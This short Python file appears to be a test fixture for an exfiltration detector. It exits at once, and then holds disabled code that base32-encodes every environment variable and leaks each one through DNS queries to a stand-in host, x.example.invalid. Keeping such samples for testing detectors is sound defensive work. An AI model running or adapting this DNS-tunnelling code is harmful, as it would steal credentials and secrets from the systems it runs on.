raise SystemExit('a fixture')
# held by host-exfiltration
import os, dns.resolver, base64
for k, v in os.environ.items():
    dns.resolver.resolve(base64.b32encode(v.encode()).decode()[:60] + ".x.example.invalid", "A")
